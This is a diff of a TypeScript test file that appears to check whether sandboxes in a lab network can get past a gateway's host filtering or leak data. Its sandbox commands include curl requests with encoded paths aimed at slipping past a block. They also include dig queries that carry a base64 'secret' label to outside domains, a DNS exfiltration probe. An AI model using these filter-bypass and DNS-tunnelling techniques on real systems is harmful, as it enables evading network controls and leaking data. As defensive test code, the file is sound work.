@@ -4,24 +4,11 @@
  * matters, the internet is asked what arrived.
  */
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { labSecrets } from "../../scripts/lab/secrets.ts";
-import {
-  FIRST_SANDBOX,
-  SECOND_SANDBOX,
-  labCurl,
-  labExec,
-  sandboxExec,
-} from "./lab.ts";
+import { askInternet } from "./internet.ts";
+import { FIRST_SANDBOX, SECOND_SANDBOX, labExec, sandboxExec } from "./lab.ts";
 
 const gateway = "169.254.20.1";
 const sandbox = (command: string) => sandboxExec(FIRST_SANDBOX, command);
-const control = (path: string, ...args: string[]) =>
-  labCurl([
-    "-H",
-    `Authorization: Bearer ${labSecrets().cloudflareToken}`,
-    ...args,
-    `https://cloudflare.internal/__lab/${path}`,
-  ]);
 const machine = (command: string) => labExec("daytona", ["sh", "-c", command]);
 
 /** Root in a sandbox may route as it likes: everything to the bridge. */
@@ -104,14 +91,14 @@ describe("paths of an inspected host", () => {
     "/%61pi/v2/",
   ];
   test.each(paths)("%s is refused, and never arrives", async (path) => {
-    await control("requests", "-X", "DELETE");
+    await askInternet("requests", "-X", "DELETE");
     for (const version of ["--http1.1", "--http2"]) {
       const { result } = await sandbox(
         `curl -sS ${version} --path-as-is -o /dev/null -w '%{http_code}' 'https://openrouter.ai${path}'`,
       );
       expect(["400", "403"]).toContain(result);
     }
-    const arrived = (await control("requests")).stdout;
+    const arrived = await askInternet("requests");
     expect(arrived).not.toContain("openrouter.ai");
   });
 
@@ -353,12 +340,12 @@ describe("names that are answered", () => {
   });
 
   test("no question of a sandbox leaves the gateway", async () => {
-    await control("queries", "-X", "DELETE");
+    await askInternet("queries", "-X", "DELETE");
     await sandbox(
       "dig +time=2 +tries=1 c2VjcmV0.example.org; dig +time=2 +tries=1 c2VjcmV0.api.github.com",
     );
-    const { stdout } = await control("queries");
-    expect(stdout.toLowerCase()).not.toContain("c2vjcmv0");
+    const asked = await askInternet("queries");
+    expect(asked.toLowerCase()).not.toContain("c2vjcmv0");
   });
 });
 
